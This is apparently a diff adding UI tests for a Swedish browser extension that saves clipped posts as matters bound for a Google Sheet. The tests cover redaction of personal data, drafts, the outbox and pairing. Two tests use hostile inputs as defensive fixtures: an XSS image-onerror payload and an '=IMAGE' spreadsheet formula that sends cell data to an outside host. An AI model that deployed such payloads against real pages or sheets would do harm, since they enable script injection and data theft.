@@ -1,0 +1,369 @@
+// @vitest-environment happy-dom
+import { render } from 'preact';
+import { act } from 'preact/test-utils';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { handle } from '../../extension/background/handle.ts';
+import type { Surroundings } from '../../extension/background/transport/transport.ts';
+import type { Message } from '../../extension/messages.ts';
+import { Options } from '../../extension/options/Options.tsx';
+import { Panel } from '../../extension/panel/Panel.tsx';
+import {
+  connectionItem,
+  contactItem,
+  drafts,
+  outbox,
+  settingsItem,
+  statusesItem,
+  viewItem,
+} from '../../extension/store/items.ts';
+import { exampleByHand, exampleCommand, examplePage, NOW, readPost } from './support/examples.ts';
+import { browserState, resetBrowser } from './support/fake-browser.ts';
+
+vi.mock('../../extension/browser.ts', async () => (await import('./support/fake-browser.ts')).fakeBrowser);
+
+/** No network at all: what is saved waits. */
+const around: Surroundings = {
+  fetch: () => Promise.reject(new TypeError('Failed to fetch')),
+  now: () => NOW,
+  random: Math.random,
+};
+
+const settle = () => act(() => new Promise((resolve) => setTimeout(resolve, 60)));
+
+let place: HTMLElement;
+beforeEach(() => {
+  resetBrowser();
+  browserState.answer = (message) => handle(message as Message, around);
+  place = document.createElement('div');
+  document.body.append(place);
+});
+afterEach(() => {
+  act(() => render(null, place));
+  place.remove();
+});
+
+async function open(page: 'panel' | 'options' = 'panel') {
+  await act(() => render(page === 'panel' ? <Panel now={() => NOW} /> : <Options now={() => NOW} />, place));
+  await settle();
+}
+
+const shown = () => place.textContent ?? '';
+const find = <Kind extends HTMLElement>(selector: string) => {
+  const found = place.querySelector<Kind>(selector);
+  if (!found) throw new Error(`${selector} is not there:\n${shown()}`);
+  return found;
+};
+const button = (name: string) => {
+  const found = [...place.querySelectorAll('button')].find((each) => each.textContent?.startsWith(name));
+  if (!found) throw new Error(`No button ${name}:\n${shown()}`);
+  return found;
+};
+const press = async (name: string) => {
+  await act(() => button(name).click());
+  await settle();
+};
+const type = async (selector: string, value: string) => {
+  const field = find<HTMLInputElement>(selector);
+  await act(() => {
+    field.value = value;
+    field.dispatchEvent(new Event('input', { bubbles: true }));
+  });
+  await settle();
+};
+const showDraft = async (draft = examplePage()) => {
+  await drafts.write(draft);
+  await viewItem.write({ is: 'draft', id: draft.id });
+  await open();
+  return draft;
+};
+
+describe('the panel with a draft', () => {
+  it('strikes personal data through, and keeps it only when the person says so, one by one', async () => {
+    const draft = await showDraft(
+      examplePage({ kind: 'page', title: 'Ring', text: 'Ring 070-174 06 05 eller kim@example.se.' }),
+    );
+    expect([...place.querySelectorAll('del')].map((struck) => struck.textContent)).toEqual([
+      '070-174 06 05',
+      'kim@example.se',
+    ]);
+    await press('Visa');
+    expect([...place.querySelectorAll('del')].map((struck) => struck.textContent)).toEqual([
+      'kim@example.se',
+    ]);
+    expect((await drafts.read(draft.id))?.form.shown).toEqual(['070-174 06 05']);
+    await press('Dölj');
+    expect(place.querySelectorAll('del')).toHaveLength(2);
+  });
+
+  it('says what was read and what was guessed, until the person has changed it', async () => {
+    await showDraft();
+    const label = () => find('label[for=title]').textContent;
+    expect(label()).toContain('gissat');
+    expect(find('label[for=text]').textContent).toContain('läst från sidan');
+    await type('#title', 'Min egen rubrik');
+    expect(label()).toBe('Rubrik');
+  });
+
+  it('stores every keystroke, and marks the draft as touched', async () => {
+    const draft = await showDraft();
+    await type('#title', 'Halvf');
+    expect(await drafts.read(draft.id)).toMatchObject({ touched: true, form: { title: 'Halvf' } });
+  });
+
+  it('follows another window that writes in the same draft', async () => {
+    const draft = await showDraft();
+    const other = { ...draft, touched: true, writer: 'another', form: { ...draft.form, title: 'Därifrån' } };
+    await act(() => drafts.write(other));
+    await settle();
+    expect(find<HTMLTextAreaElement>('#title').value).toBe('Därifrån');
+  });
+
+  it('holds the author back unless ticked', async () => {
+    const draft = await showDraft();
+    expect(shown()).toContain('Avsändare (sparas inte)');
+    const tick = [...place.querySelectorAll<HTMLInputElement>('input[type=checkbox]')].at(-1);
+    await act(() => tick?.click());
+    await settle();
+    expect(shown()).toContain('Avsändare (sparas)');
+    expect((await drafts.read(draft.id))?.form.keepsAuthor).toBe(true);
+  });
+
+  it('saves with Ctrl+Enter and puts the receipt where the form was, with the focus on Next', async () => {
+    const draft = await showDraft();
+    await act(() => {
+      find('#title').dispatchEvent(
+        new KeyboardEvent('keydown', { key: 'Enter', ctrlKey: true, bubbles: true, cancelable: true }),
+      );
+    });
+    await settle();
+    expect(shown()).toContain('Sparat här. Skickas när webbläsaren är ansluten till ett ark.');
+    expect(document.activeElement).toBe(button('Nästa'));
+    expect((await outbox.read(draft.id))?.state.is).toBe('waiting');
+    expect(await drafts.readAll()).toEqual([]);
+  });
+
+  it('names what must be mended and goes there, and keeps everything', async () => {
+    await showDraft(exampleByHand());
+    await press('Spara ärendet');
+    expect(shown()).toContain('Utan text finns inget att svara på.');
+    expect(document.activeElement?.id).toBe('text');
+    expect(find('#title').getAttribute('aria-invalid')).toBe('true');
+    await type('#text', 'Hala trappor');
+    expect(shown()).not.toContain('Utan text finns inget att svara på.');
+    expect(await outbox.readAll()).toEqual([]);
+  });
+
+  it('says so, and keeps the form, when the storage is full', async () => {
+    await showDraft();
+    browserState.isFull = true;
+    await press('Spara ärendet');
+    expect(shown()).toContain('webbläsarens lagring är full');
+    expect(find<HTMLTextAreaElement>('#text').value).toBe(readPost.text);
+  });
+
+  it('warns when what is typed cannot be stored', async () => {
+    await showDraft();
+    browserState.isFull = true;
+    await type('#title', 'x');
+    expect(shown()).toContain('Det du skriver kan inte sparas undan');
+  });
+
+  it('tells that the page is registered, who is waited for, and that a copy is on its way', async () => {
+    await statusesItem.write({
+      pages: { 'https://social.example/@kim/12': { asked: NOW, matters: ['SKÄ-2026-0042'] } },
+      matters: {
+        'SKÄ-2026-0042': {
+          told: NOW - 3_600_000,
+          status: {
+            matter: 'SKÄ-2026-0042',
+            stage: 'referred',
+            received: '2026-10-02',
+            duty: {
+              holder: 'organisation',
+              organisations: ['Trafikkontoret'],
+              since: '2026-11-05',
+              workingDays: 12,
+              due: '2026-11-26',
+              workingDaysLeft: 3,
+            },
+          },
+        },
+      },
+    });
+    const first = examplePage();
+    await drafts.write(first);
+    await handle({ type: 'save', draft: first.id, form: first.form }, around);
+    await showDraft();
+    expect(shown()).toContain('Sidan är redan registrerad 2 gånger');
+    expect(shown()).toContain('Väntar på Trafikkontoret sedan 12 arbetsdagar');
+    expect(shown()).toContain('enligt arket 08:00');
+    expect(shown()).toContain('Sparat här, på väg till arket');
+  });
+
+  it('shows text from the page as text', async () => {
+    await showDraft(examplePage({ text: '<img src=x onerror=alert(1)>', title: '<b>fet</b>' }));
+    expect(place.querySelector('img, b')).toBeNull();
+    expect(find<HTMLTextAreaElement>('#text').value).toBe('<img src=x onerror=alert(1)>');
+  });
+
+  it('leaves the answers that are not ticked out', async () => {
+    const draft = await showDraft(
+      examplePage({
+        kind: 'receipt',
+        fields: [
+          { label: 'Namn', value: 'Kim' },
+          { label: 'Plats', value: 'Torget' },
+        ],
+      }),
+    );
+    expect(shown()).toContain('1 av 2 sparas');
+    await press('Spara ärendet');
+    const entry = await outbox.read(draft.id);
+    expect(entry && 'command' in entry ? entry.command.fields : []).toEqual([
+      { label: 'Plats', value: 'Torget' },
+    ]);
+  });
+});
+
+describe('the panel otherwise', () => {
+  it('says what to do when there is nothing', async () => {
+    await open();
+    expect(shown()).toContain('Fånga det någon har skrivit');
+    expect(shown()).toContain('Inte ansluten');
+    await press('Skriv för hand');
+    expect(shown()).toContain('skrivet för hand');
+  });
+
+  it('changes tab by Alt and a digit, and comes back by itself when something is clipped', async () => {
+    await open();
+    await act(() => {
+      window.dispatchEvent(new KeyboardEvent('keydown', { altKey: true, code: 'Digit2', key: '™' }));
+    });
+    await settle();
+    expect(shown()).toContain('Inget väntar.');
+    const draft = examplePage();
+    await act(async () => {
+      await drafts.write(draft);
+      await viewItem.write({ is: 'draft', id: draft.id });
+    });
+    await settle();
+    expect(find<HTMLTextAreaElement>('#text').value).toBe(readPost.text);
+  });
+
+  it('keeps begun drafts, and gives a removed one back', async () => {
+    const draft = { ...examplePage(), touched: true };
+    await drafts.write(draft);
+    await open();
+    expect(shown()).toContain('Påbörjade');
+    await press('Ta bort');
+    expect(await drafts.readAll()).toEqual([]);
+    await press('Ångra');
+    expect(await drafts.read(draft.id)).toEqual(draft);
+  });
+
+  it('tells why the sheet cannot be reached while something waits for it', async () => {
+    await connectionItem.write({
+      address: 'https://script.google.com/macros/s/A/exec',
+      key: 'k',
+      secret: 'cw==',
+      expires: '2027-01-01',
+      workbook: 'Ark',
+      district: 'Skärholmen',
+      paired: NOW,
+    });
+    browserState.hosts = ['https://script.google.com/*', 'https://script.googleusercontent.com/*'];
+    await contactItem.write({ failure: { kind: 'revoked_key', at: NOW } });
+    await open();
+    expect(shown()).toContain('Når inte arket · Skärholmen');
+    expect(shown()).toContain('Anslutningen har dragits in.');
+  });
+
+  it('asks before a refused matter is thrown away', async () => {
+    const command = exampleCommand(examplePage());
+    await outbox.write({
+      id: command.id,
+      saved: NOW,
+      page: '',
+      command,
+      state: { is: 'refused', at: NOW, message: 'Hör inte hit.' },
+    });
+    await open();
+    await press('Utkorg');
+    expect(shown()).toContain('Hör inte hit.');
+    await press('Släng');
+    expect(shown()).toContain('Slänger du det är det borta.');
+    expect(await outbox.readAll()).toHaveLength(1);
+    await press('Släng');
+    expect(await outbox.readAll()).toEqual([]);
+  });
+
+  it('copies what waits as JSON, the unreadable too, and as a table that no sheet takes for a formula', async () => {
+    const draft = examplePage();
+    const command = { ...exampleCommand(draft), title: '=IMAGE("https://x/?"&A2)', text: 'rad 1\nrad "2"' };
+    await outbox.write({
+      id: draft.id,
+      saved: NOW,
+      page: '',
+      command,
+      state: { is: 'waiting', attempts: 1, next: NOW },
+    });
+    browserState.stored['outbox:Z'] = { from: 'another version' };
+    let copied = '';
+    vi.spyOn(navigator.clipboard, 'writeText').mockImplementation(async (text) => {
+      copied = text;
+    });
+    await open();
+    await press('Utkorg');
+    await press('Kopiera som JSON');
+    expect(JSON.parse(copied)).toEqual([command, { from: 'another version' }]);
+    expect(shown()).toContain('2 ärenden kopierades.');
+    await press('Kopiera som tabell');
+    const [titles, row] = copied.split('\n', 2);
+    expect(titles?.split('\t').slice(0, 3)).toEqual(['id', 'Inkom till staden', 'Slag']);
+    expect(row).toContain(`"'=IMAGE(""https://x/?""&A2)"`);
+    expect(copied).toContain('"rad 1\nrad ""2"""');
+  });
+
+  it('speaks English when that is chosen, without a Swedish word left', async () => {
+    await settingsItem.write({ language: 'en' });
+    await showDraft();
+    expect(shown()).toContain('Save the matter');
+    expect(document.documentElement.lang).toBe('en');
+    expect(find('form').textContent).not.toMatch(
+      /[åäö]/i.test(readPost.text) ? /Rubrik|Plats|Slag/ : /[åäö]/i,
+    );
+  });
+});
+
+describe('the options page', () => {
+  it('empties only after saying what would be lost', async () => {
+    const draft = examplePage();
+    await drafts.write(draft);
+    await handle({ type: 'save', draft: draft.id, form: draft.form }, around);
+    await open('options');
+    await press('Töm allt');
+    expect(shown()).toContain('försvinner för alltid: 1 sparade som inte kommit fram');
+    await act(() =>
+      [...place.querySelectorAll('button')].filter((each) => each.textContent === 'Töm allt')[1]?.click(),
+    );
+    await settle();
+    expect(shown()).toContain('Allt är tömt.');
+    expect(browserState.stored).toEqual({});
+  });
+
+  it('asks for the hosts of the address, and no others, on the click', async () => {
+    await open('options');
+    await type('#pairing-address', 'https://script.google.com/macros/u/1/s/A/exec');
+    await type('#pairing-code', 'ABCD-EFGH');
+    await press('Anslut');
+    expect(browserState.hosts).toEqual([
+      'https://script.google.com/*',
+      'https://script.googleusercontent.com/*',
+    ]);
+    expect(browserState.messages).toContainEqual({
+      type: 'pair',
+      address: 'https://script.google.com/macros/s/A/exec',
+      code: 'ABCD-EFGH',
+    });
+  });
+});
